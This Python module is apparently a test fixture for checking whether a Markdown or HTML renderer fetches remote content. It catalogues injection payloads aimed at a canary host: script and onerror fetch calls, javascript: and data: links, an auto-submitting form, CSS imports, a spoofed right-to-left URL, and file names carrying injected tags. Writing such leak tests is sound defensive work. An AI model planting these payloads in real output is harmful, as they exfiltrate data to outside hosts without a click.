"""Tricks by which a text makes a browser that shows it fetch something, each from an address of its own.

A trick is written as it would stand in a document, a file's name or an answer. `WORKS` are those that make a browser
fetch without a click where the text is taken for Markdown and HTML: the others need a click, or another reader of
Markdown.
"""

from __future__ import annotations

ELSEWHERE = "canary.example"
"""The name under which the canary is known to the browser, and to nobody else."""

# {n} is the trick's address, which nothing else has.
_TRICKS = {
    "markdown image": "![seen]({n}/pixel.png)",
    "reference image": "![seen][leak]\n\n[leak]: {n}/pixel.png",
    "reference link": "[click here][away]\n\n[away]: {n}/page",
    "autolink": "<{n}/page> {n}/page www.canary.example",
    "img": '<img src="{n}/pixel.png">',
    "img with srcset": '<img srcset="{n}/pixel.png 1x"><picture><source srcset="{n}/other.png"><img></picture>',
    "script": '<script src="{n}/code.js"></script>',
    "inline script": "<script>fetch('{n}/fetched')</script>",
    "event handler": "<img src=x: onerror=\"fetch('{n}/fetched')\"><svg onload=\"fetch('{n}/fetched')\"></svg>",
    "iframe": '<iframe src="{n}/frame.html"></iframe>',
    "iframe with srcdoc": '<iframe srcdoc="&lt;img src={n}/pixel.png&gt;"></iframe>',
    "object and embed": '<object data="{n}/object.svg"></object><embed src="{n}/embed.svg">',
    "form": '<form action="{n}/form"><input autofocus onfocus="this.form.submit()"><button>Go on</button></form>',
    "base and meta refresh": '<base href="{n}/"><meta http-equiv="refresh" content="0;url={n}/refreshed">',
    "stylesheet": '<link rel="stylesheet" href="{n}/style.css"><style>@import "{n}/import.css";</style>',
    "style attribute": '<b style="background-image:url({n}/background.png)">bold</b>',
    "svg": '<svg><image href="{n}/image.png"/><use href="{n}/use.svg#x"/><foreignObject><img src="{n}/inner.png">'
    "</foreignObject></svg>",
    "javascript address": "[click](javascript:fetch('{n}/fetched')) <a href=\"javascript:fetch('{n}/fetched')\">"
    "click</a>",
    "data address": '[click](data:text/html,<img src="{n}/pixel.png">) '
    '<iframe src="data:text/html,<img src={n}/framed.png>"></iframe>',
    "video, audio and track": '<video src="{n}/film.mp4" poster="{n}/poster.png" autoplay>'
    '<track src="{n}/track.vtt" default></video><audio src="{n}/sound.mp3" autoplay></audio>',
    "hints": '<link rel="dns-prefetch" href="{n}"><link rel="preconnect" href="{n}">'
    '<link rel="prefetch" href="{n}/next">',
    "ping": '<a href="#x" ping="{n}/ping">click</a>',
    "spoofed address": "[http://127.0.0.1\u202e/gnp.lexip](http://127.0.0.1@canary.example/pixel) \u2066{n}\u2069",
    "formula and diagram": '$$\\includegraphics{{{n}/figure.png}} \\href{{{n}/formula}}{{x}}$$\n\n```mermaid\n'
    'graph TD; A-->B; click A href "{n}/diagram"\n```',
    "websocket": "<script>new WebSocket('{w}/socket')</script>",
}  # fmt: skip
WORKS = frozenset(
    {"markdown image", "reference image", "img", "img with srcset", "script", "inline script", "event handler",
     "form", "iframe", "iframe with srcdoc", "object and embed", "base and meta refresh", "stylesheet",
     "style attribute", "svg",
     "data address", "video, audio and track", "hints", "websocket"}
)  # fmt: skip


def tricks(port: int) -> dict[str, str]:
    """Return every trick by its name, with the canary on a port of this machine."""
    return {
        name: text.format(n=f"http://{ELSEWHERE}:{port}/t{number}", w=f"ws://{ELSEWHERE}:{port}/t{number}")
        for number, (name, text) in enumerate(_TRICKS.items())
    }


def mark(name: str) -> str:
    """Return a word that stands beside a trick, by which it is found on the page."""
    return "trick" + "".join(char for char in name if char.isalpha())


def file_name(name: str, number: int, port: int) -> str:
    """Return a file's name with a trick in it: in names a slash can only be written as a character reference."""
    away = f"http:&#47;&#47;{ELSEWHERE}:{port}&#47;t{number}"
    shapes = (f'<img src="{away}">', f"![x]({away})", f'"onmouseover=fetch("{away}")', f"<svg onload=fetch('{away}')>")
    return f"{shapes[number % len(shapes)]} {mark(name)}.md"
